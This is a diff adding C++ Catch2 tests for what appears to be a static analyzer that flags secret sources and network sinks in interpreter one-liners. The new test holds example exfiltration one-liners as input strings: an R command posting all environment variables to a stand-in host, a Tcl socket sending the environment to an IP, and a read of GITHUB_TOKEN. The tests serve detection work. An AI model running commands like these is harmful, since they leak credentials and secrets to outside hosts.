@@ -1,4 +1,6 @@
 // Interpreter one-liners are read for sources, sinks, fetched-code execution and shell strings.
+#include <algorithm>
+
 #include <catch2/catch.hpp>
 
 #include "analysis/shell/interpreters.h"
@@ -150,4 +152,20 @@ TEST_CASE("a command string concatenated from literals is read whole") {
   // A variable in between ends the join: only what is known is read.
   CHECK(has_command(analyze("python3 -c \"import os; os.system('ls ' + path + ' -la')\""), "ls"));
   CHECK_FALSE(has_flow_to(analyze("python3 -c \"import os; os.system('echo ' + x + 'curl https://x.example')\""), "network"));
+}
+
+TEST_CASE("R and Tcl programs: the whole environment, their HTTP clients and sockets") {
+  auto r = sh::read_code("Rscript", "httr::POST('https://x.example.com/c', body = as.list(Sys.getenv()))");
+  CHECK(r.network);
+  CHECK(std::any_of(r.sources.begin(), r.sources.end(), [](const auto& s) { return s.first == "env_dump"; }));
+  auto tcl = sh::read_code("tclsh", "set s [socket 203.0.113.9 80]; puts $s [array get env]; close $s");
+  CHECK(tcl.network);
+  CHECK(std::any_of(tcl.sources.begin(), tcl.sources.end(), [](const auto& s) { return s.first == "env_dump"; }));
+  auto one = sh::read_code("tclsh", "puts $env(GITHUB_TOKEN)");
+  CHECK(std::any_of(one.sources.begin(), one.sources.end(), [](const auto& s) { return s.second == "$GITHUB_TOKEN"; }));
+  // One ordinary variable, no network.
+  auto home = sh::read_code("Rscript", "x <- Sys.getenv('HOME'); print(x)");
+  CHECK_FALSE(home.network);
+  CHECK(home.sources.empty());
+  CHECK(sh::read_code("Rscript", "download.file('https://cran.r-project.org/PACKAGES', 'p.txt')").network);
 }
